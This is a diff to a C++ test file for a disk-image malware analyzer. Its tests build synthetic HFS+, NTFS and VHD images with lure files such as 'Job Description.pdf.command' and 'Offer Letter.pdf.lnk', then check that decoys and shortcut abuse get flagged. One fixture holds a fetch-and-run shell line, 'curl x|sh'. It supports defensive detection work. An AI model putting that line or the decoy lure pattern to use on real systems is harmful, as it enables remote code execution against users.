@@ -11,6 +11,8 @@
 #include "core/testing/recording_context.h"
 #include "engine/scan.h"
 #include "formats/disk/disk_test_images.h"
+#include "formats/disk/hfs_test_image.h"
+#include "formats/disk/ntfs_test_image.h"
 
 namespace lg {
 namespace {
@@ -126,11 +128,30 @@ TEST(DiskImageAnalyzer, DmgWithZlibFatPartition) {
   EXPECT_TRUE(ctx.has(Symbol::DISK_IMAGE_DECOY));
 }
 
-TEST(DiskImageAnalyzer, DmgHfsPlusIsListedNotRead) {
-  Bytes hfs(64 * 1024, 0);
-  disk::testing::put_str(hfs, 1024, "H+");
+TEST(DiskImageAnalyzer, DmgWithHfsPlusScriptAndDecoy) {
+  Bytes hfs = disk::testing::make_hfs({{"Job Description.pdf", kPdf},
+                                       {"Job Description.pdf.command", "#!/bin/sh\ncurl x|sh\n"},
+                                       {".DS_Store", "Bud1"},
+                                       {".background", "", true},
+                                       {".background/bg.png", "\x89PNG\r\n\x1A\n"}},
+                                      false, "Job Offer");
   RecordingContext ctx = run(FileType::kDmg, disk::testing::make_dmg(hfs, 0x80000006));
-  EXPECT_EQ(strings(ctx, "file_systems"), std::vector<std::string>{"partition1: hfs+ (not read)"});
+  EXPECT_EQ(strings(ctx, "file_systems"),
+            std::vector<std::string>{"partition1: HFS+ \"Job Offer\""});
+  EXPECT_EQ(ctx.num("entries"), 4);
+  EXPECT_EQ(strings(ctx, "hidden_entries"), std::vector<std::string>{".DS_Store"});
+  ASSERT_EQ(ctx.children.size(), 4u);
+  const auto* f = finding(ctx, Symbol::DISK_IMAGE_DECOY);
+  ASSERT_NE(f, nullptr);
+  EXPECT_EQ(f->evidence.value, "Job Description.pdf.command");
+}
+
+TEST(DiskImageAnalyzer, DamagedHfsPlusIsAnAnomaly) {
+  Bytes hfs = disk::testing::make_hfs({{"a.pdf", kPdf}});
+  std::fill(hfs.begin() + 3 * 4096, hfs.begin() + 5 * 4096, 0xEE);  // the catalog B-tree
+  RecordingContext ctx = run(FileType::kHfsPlus, hfs);
+  EXPECT_EQ(ctx.str("format"), "hfsplus");
+  EXPECT_FALSE(ctx.anomalies.empty());
   EXPECT_TRUE(ctx.children.empty());
 }
 
@@ -192,6 +213,69 @@ TEST(DiskImageScan, IsoVolumeInsideVhd) {
   }
   EXPECT_TRUE(decoy);
   EXPECT_TRUE(lolbin);
+}
+
+// NTFS in a fixed VHD (MBR type 0x07): the shortcut and the decoy come out of the volume as
+// entries, the alternate data stream is a fact.
+TEST(DiskImageAnalyzer, FixedVhdWithNtfsShortcutAndDecoy) {
+  auto ntfs = disk::testing::make_ntfs(
+      {{"Offer Letter.pdf", kPdf},
+       {"Offer Letter.pdf.lnk", shortcut(), "Zone.Identifier", "[ZoneTransfer]\r\nZoneId=3\r\n"}});
+  if (!ntfs) GTEST_SKIP() << "mkntfs/ntfscp (Debian ntfs-3g) not installed";
+  Bytes vhd = disk::testing::make_fixed_vhd(disk::testing::make_mbr_disk(*ntfs, 0x07));
+  RecordingContext ctx = run(FileType::kVhd, vhd);
+  EXPECT_EQ(strings(ctx, "file_systems"), std::vector<std::string>{"partition1: NTFS \"LURE\""});
+  EXPECT_EQ(ctx.num("entries"), 2);
+  EXPECT_EQ(strings(ctx, "alternate_streams"),
+            std::vector<std::string>{"Offer Letter.pdf.lnk:Zone.Identifier (26 bytes)"});
+  ASSERT_EQ(ctx.children.size(), 2u);
+  for (const auto& c : ctx.children) {
+    if (c.info.name == "Offer Letter.pdf.lnk") {
+      EXPECT_EQ(to_string(c.data), shortcut());
+    }
+  }
+  const auto* f = finding(ctx, Symbol::DISK_IMAGE_DECOY);
+  ASSERT_NE(f, nullptr);
+  EXPECT_EQ(f->evidence.value, "Offer Letter.pdf.lnk");
+}
+
+TEST(DiskImageAnalyzer, NtfsFileOverTheObjectCapIsRefused) {
+  auto ntfs = disk::testing::make_ntfs({{"setup.exe", std::string(40'000, 'A')}, {"a.dat", "ok"}});
+  if (!ntfs) GTEST_SKIP() << "mkntfs/ntfscp (Debian ntfs-3g) not installed";
+  RecordingContext ctx;
+  ctx.limits_.max_object_bytes = 32 * 1024;
+  ASSERT_TRUE(DiskImageAnalyzer(FileType::kNtfs).analyze(*ntfs, ctx).is_ok());
+  EXPECT_EQ(ctx.str("format"), "ntfs");
+  EXPECT_TRUE(ctx.has(Symbol::LIMIT_EXCEEDED));
+  ASSERT_EQ(ctx.children.size(), 1u);
+  EXPECT_EQ(ctx.children[0].info.name, "a.dat");
+  EXPECT_EQ(strings(ctx, "entry_names"), (std::vector<std::string>{"a.dat", "setup.exe"}));
+  EXPECT_TRUE(ctx.has(Symbol::DISK_IMAGE_PAYLOAD));
+}
+
+// Bare volumes are identified and analyzed by the engine like images.
+TEST(DiskImageScan, BareNtfsAndHfsVolumes) {
+  std::vector<std::pair<std::string, Bytes>> images;
+  images.push_back({"lure.img", disk::testing::make_hfs(
+                                    {{"Contract.pdf", kPdf}, {"Contract.pdf.lnk", shortcut()}})});
+  if (auto ntfs =
+          disk::testing::make_ntfs({{"Contract.pdf", kPdf}, {"Contract.pdf.lnk", shortcut()}})) {
+    images.push_back({"lure.img", std::move(*ntfs)});
+  }
+  for (const auto& [name, bytes] : images) {
+    Config config = default_config();
+    TextScanner scanner;
+    Report report;
+    Scan scan(config, scanner, report, make_analyzer);
+    scan.run(name, bytes);
+    bool decoy = false, lolbin = false;
+    for (const auto& f : report.findings) {
+      decoy = decoy || f.symbol == "DISK_IMAGE_DECOY";
+      lolbin = lolbin || f.symbol == "LNK_LOLBIN";
+    }
+    EXPECT_TRUE(decoy) << file_type_name(identify(bytes));
+    EXPECT_TRUE(lolbin) << file_type_name(identify(bytes));
+  }
 }
 
 }  // namespace
